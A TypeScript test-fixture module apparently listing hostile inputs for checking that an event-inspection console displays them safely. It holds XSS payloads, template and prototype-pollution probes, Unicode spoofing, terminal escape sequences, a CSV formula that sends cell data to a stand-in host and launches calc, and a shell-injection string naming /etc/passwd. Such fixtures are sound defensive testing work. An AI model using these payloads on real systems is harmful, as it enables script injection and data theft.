/** What somebody could send so that whoever looks at it runs it, breaks, or sees something else than what came. */
export interface HostilePayload {
  readonly name: string;
  /** Of the event; else an ordinary one. */
  readonly type?: string;
  readonly headers?: readonly (readonly [name: string, value: string])[];
  readonly body: string | Buffer;
  /** A part of the body as the console's page has it to read: JSON in lines, what can't be seen by its name, what is no text in hex. */
  readonly shows?: string;
}

/** Whatever runs of a payload calls it: `globalThis.canary`. */
export const CANARY = 'canary';
const RUN = `globalThis.${CANARY}()`;
/** Nobody answers there: a request to it is one too many. */
const AT = 'https://hostile.invalid';

const inJson = (text: string): string => JSON.stringify({ text });
const html = (name: string, markup: string): HostilePayload => ({ name, body: markup, shows: markup });
const zip = Buffer.from([0x50, 0x4b, 3, 4, 0x14, 0, 0, 0, 8, 0, 0xff, 0xfe]);

export const hostilePayloads: readonly HostilePayload[] = [
  html('a script', `<script>${RUN}</script>`),
  html('an image that fails', `<img src=x onerror="${RUN}">`),
  html('an image of another host', `<img src="${AT}/pixel.gif">`),
  html('an SVG that loads', `<svg onload="${RUN}"><script>${RUN}</script></svg>`),
  html('a frame', `<iframe srcdoc="<script>parent.${CANARY}()</script>"></iframe>`),
  html('the end of what is around it', `</pre></script></style></title></textarea><script>${RUN}</script>`),
  html('a page that leads away', `<meta http-equiv="refresh" content="0;url=${AT}"><base href="${AT}">`),
  html('a form that sends itself', `<form action="${AT}"><input name=a autofocus onfocus="${RUN}"></form>`),
  html('styles of another host', `<style>@import "${AT}/a.css"; * { display: none }</style>`),
  html('a comment that does not end', `<!-- <b>`),
  html('a link that runs', `<a href="javascript:${RUN}">here</a>`),
  html(
    'MathML',
    `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></table></mtext></math>`,
  ),
  html('a template of a framework', `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %>`),
  {
    name: 'a script in a string',
    body: inJson(`</script><script>${RUN}</script>`),
    shows: '</script><script>',
  },
  { name: 'a URL that runs, in a string', body: inJson(`javascript:${RUN}`), shows: `javascript:${RUN}` },
  { name: 'markup as a key', body: `{"<img src=x onerror=${RUN}>":1}`, shows: `<img src=x onerror=${RUN}>` },
  {
    name: 'an element of React',
    body: `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${RUN}"}}}`,
    shows: '"$$typeof"',
  },
  {
    name: '__proto__',
    body: '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
    shows: '"__proto__"',
  },
  { name: 'a key twice', body: '{"amount":1,"amount":1000000}', shows: '"amount": 1000000' },
  { name: 'a number that is none', body: '{"n":1e400,"m":-1e-400}', shows: '"n": 1e400' },
  { name: 'a number of 20 digits', body: '{"id":12345678901234567891}', shows: '12345678901234567891' },
  { name: '10,000 deep', body: '['.repeat(10_000) + ']'.repeat(10_000), shows: '[' },
  { name: '10,000 deep and not closed', body: '{"a":'.repeat(10_000), shows: '"a": {' },
  {
    name: '50,000 keys',
    body: JSON.stringify(Object.fromEntries(Array.from({ length: 50_000 }, (_, n) => [`k${n}`, n]))),
    shows: '"k7": 7',
  },
  { name: '5 MB in one line', body: `{"text":"${'x'.repeat(5_000_000)}"}`, shows: 'xxxxxxxxxx' },
  { name: '5 MB of one word of Arabic', body: 'ﷺ'.repeat(1_700_000), shows: 'ﷺﷺ' },
  {
    name: 'halves of characters, escaped',
    body: String.raw`{"a":"\ud800","b":"\udfff\ud800"}`,
    shows: String.raw`\ud800`,
  },
  {
    name: 'text that turns around',
    body: inJson('safe\u202egpj.exe\u202c\u2066x\u2069'),
    shows: 'safe[U+202E]gpj.exe',
  },
  { name: 'letters without width', body: inJson('pay\u200bpal\u2060\ufeff'), shows: 'pay[U+200B]pal' },
  {
    name: 'escapes of a terminal',
    body: '\u001b[2J\u001b]0;title\u0007\u001b]52;c;aWQK\u0007\u009b31mred',
    shows: '[U+001B][2J[U+001B]]0;title[U+0007]',
  },
  { name: 'the end of a paste', body: '\u001b[201~\nid\n', shows: '[U+001B][201~' },
  { name: 'NULs', body: 'a\0b\0c', shows: '61 00 62 00 63' },
  { name: 'a zip', body: zip, shows: '50 4b 03 04' },
  {
    name: 'every byte',
    body: Buffer.from(Array.from({ length: 256 }, (_, byte) => byte)),
    shows: 'f0 f1 f2 f3',
  },
  {
    name: 'UTF-8 that is none',
    body: Buffer.from([0xc3, 0x28, 0xed, 0xa0, 0x80, 0xff]),
    shows: 'c3 28 ed a0 80 ff',
  },
  { name: 'a mark of order', body: '\ufeff{"a":1}', shows: '"a": 1' },
  { name: 'UTF-16', body: Buffer.from(`\ufeff<script>${RUN}</script>`, 'utf16le'), shows: `<script>${RUN}` },
  {
    name: 'UTF-7',
    body: `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    headers: [['Content-Type', 'text/html; charset=utf-7']],
    shows: '+ADw-script',
  },
  {
    name: 'a formula',
    body: `=HYPERLINK("${AT}?x="&A1,"here")\r\n@SUM(1+1)*cmd|' /C calc'!A0`,
    headers: [['Content-Type', 'text/csv']],
    shows: '=HYPERLINK(',
  },
  { name: 'a shell', body: `@/etc/passwd'; $(${CANARY}) \`${CANARY}\` "`, shows: `@/etc/passwd'; $(` },
  {
    name: 'a form with markup',
    body: `a=%3Cscript%3E${RUN}%3C/script%3E&b=%00%ff`,
    headers: [['Content-Type', 'application/x-www-form-urlencoded']],
    shows: `a: <script>${RUN}</script>`,
  },
  {
    name: 'markup in headers',
    headers: [
      ['X-Name', `<script>${RUN}</script>`],
      ['X-Esc', '\u009b31m'],
      ['Content-Type', `text/html"><img src=x onerror=${RUN}>`],
    ],
    body: '{}',
  },
  {
    name: 'headers twice over',
    headers: Array.from({ length: 200 }, (_, n) => [`X-${n % 7}`, `${n}`] as const),
    body: '',
  },
  { name: 'markup as the type', type: `</title><script>${RUN}</script>`, body: '{}', shows: '{}' },
  { name: 'a type that turns around', type: 'order\u202ediap', body: '{}', shows: '{}' },
];
